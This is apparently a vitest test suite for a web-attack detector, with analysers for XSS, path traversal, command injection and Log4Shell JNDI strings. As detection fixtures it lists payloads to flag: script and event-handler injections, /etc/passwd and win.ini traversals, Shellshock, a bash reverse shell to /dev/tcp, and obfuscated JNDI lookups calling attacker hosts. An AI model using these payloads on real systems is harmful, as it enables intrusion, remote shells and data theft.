import { describe, expect, it } from 'vitest';
import { CommandInjectionAnalyser } from '../../src/security/command-injection.js';
import { JndiAnalyser } from '../../src/security/jndi.js';
import { normalize } from '../../src/security/normalize.js';
import { HitList, type Analyser } from '../../src/security/rule-hit.js';
import { foldPath, TraversalAnalyser } from '../../src/security/traversal.js';
import { XssAnalyser } from '../../src/security/xss.js';

function scorer(a: Analyser): (raw: string) => { score: number; rules: string[] } {
  return (raw) => {
    const hits = new HitList();
    a.analyse(normalize(raw).text, 1, hits);
    return { score: hits.total(), rules: hits.ids.slice(0, hits.count) };
  };
}
const xss = scorer(new XssAnalyser());
const trav = scorer(new TraversalAnalyser());
const cmdi = scorer(new CommandInjectionAnalyser());
const jndi = scorer(new JndiAnalyser());

describe('XssAnalyser', () => {
  it.each([
    ['<script>alert(1)</script>', 'xss-script-tag'],
    ['<img src=x onerror=alert(1)>', 'xss-event-handler'],
    ['<svg/onload=alert(1)>', 'xss-event-handler'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'xss-script-url'],
    ['javascript:alert(document.cookie)', 'xss-script-url'],
    ['<iframe src=//evil.example>', 'xss-embedding-tag'],
    ['";alert(1)//', 'xss-js-sink'],
    ['" onmouseover="alert(1)', 'xss-event-handler'],
    ['[1].find(alert)', 'xss-js-sink'],
    ['<meta http-equiv="refresh" content="0;url=data:text/html,x">', 'xss-external-resource'],
    ['%3Cscript%3E', 'xss-script-tag'],
  ])('flags %s', (text, rule) => {
    const r = xss(text);
    expect(r.rules).toContain(rule);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each(['BLAH <A HREF="/FOO.HTML">FOO</A>', '<div class="card"><h1>Welcome back</h1></div>', 'online store', 'a < b and c > d', 'the alert (red) light', '<br>'])('stays quiet on %s', (text) =>
    expect(xss(text).score).toBeLessThan(5),
  );
});

describe('TraversalAnalyser', () => {
  it.each([
    ['../../../../etc/passwd', 'traversal-parent'],
    ['..%2f..%2f..%2fboot.ini', 'traversal-parent'],
    ['..\\..\\windows\\win.ini', 'traversal-sensitive-file'],
    ['/etc/passwd', 'lfi-system-file'],
    ['c:\\boot.ini', 'lfi-absolute-path'],
    ['php://filter/convert.base64-encode/resource=index.php', 'lfi-wrapper'],
    ['page=http://evil.example/shell.txt?', 'rfi-remote-include'],
    ['file=../config.php', 'traversal-leading-parent'],
    ['/.git/config', 'lfi-dotfile'],
    ['file=/var/log/nginx/access.log', 'lfi-absolute-path'],
  ])('flags %s', (text, rule) => {
    const r = trav(text);
    expect(r.rules).toContain(rule);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    '/.well-known/security.txt',
    '/.environment/x',
    'next=/home/dashboard',
    '/blog/geekery/xvfb-firefox.html',
    'p://www.example.com/about/',
    'Wait... what?',
    '/files/logstash/logstash-1.1.0.jar',
    'url=http://www.example.com/a.html',
  ])('stays quiet on %s', (text) => expect(trav(text).score).toBeLessThan(5));

  it('folds backslashes, repeated slashes and /./', () => {
    expect(foldPath('a\\\\b//c/./d')).toBe('a/b/c/d');
    expect(foldPath('/plain/path')).toBe('/plain/path');
  });
});

describe('CommandInjectionAnalyser', () => {
  it.each([
    ['; id', 'cmdi-chained-command'],
    ['a|/usr/bin/id', 'cmdi-chained-command'],
    ['`whoami`', 'cmdi-chained-command'],
    ['$(cat /etc/passwd)', 'cmdi-chained-command'],
    ['%0aping -c 3 127.0.0.1', 'cmdi-chained-command'],
    ['() { :;}; /bin/bash -c "id"', 'cmdi-shellshock'],
    ['ls -la /var/www', 'cmdi-command'],
    [";system('id')", 'cmdi-exec-function'],
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'cmdi-shell-marker'],
  ])('flags %s', (text, rule) => {
    const r = cmdi(text);
    expect(r.rules).toContain(rule);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each(['a=1&id=2&sort=asc', 'cats; dogs', 'Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119', 'I like to cat my report', "c's assert() feature", 'rock | pop'])(
    'stays quiet on %s',
    (text) => expect(cmdi(text).score).toBeLessThan(5),
  );
});

describe('JndiAnalyser', () => {
  it.each([
    '${jndi:ldap://attacker.example/a}',
    '${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://x/y}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}',
    '%24%257Bjndi%3Aldap%3A%2F%2Fx%257D',
    '${jNdI:ldAp://x}',
  ])('flags %s', (text) => expect(jndi(text).score).toBeGreaterThanOrEqual(5));

  it.each(['Config value ${DATABASE_URL} not set', 'the jndi: prefix in docs', '${jndi'])('stays quiet on %s', (text) => expect(jndi(text).score).toBeLessThan(5));
});

describe('TraversalAnalyser: Windows paths with spaces', () => {
  it.each([
    'c:\\Program Files\\Apache Group\\Apache\\logs\\access.log',
    'file=c:\\Program Files\\Apache Group\\Apache\\conf\\httpd.conf',
    'c:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe',
  ])('flags %s', (text) => {
    const r = trav(text);
    expect(r.rules).toContain('lfi-absolute-path');
    expect(r.score).toBeGreaterThanOrEqual(5);
  });
  it.each(['C:\\Users\\Public\\Documents', 'c:\\users\\bob\\my notes for monday'])('stays quiet on %s', (text) => expect(trav(text).score).toBeLessThan(5));
});
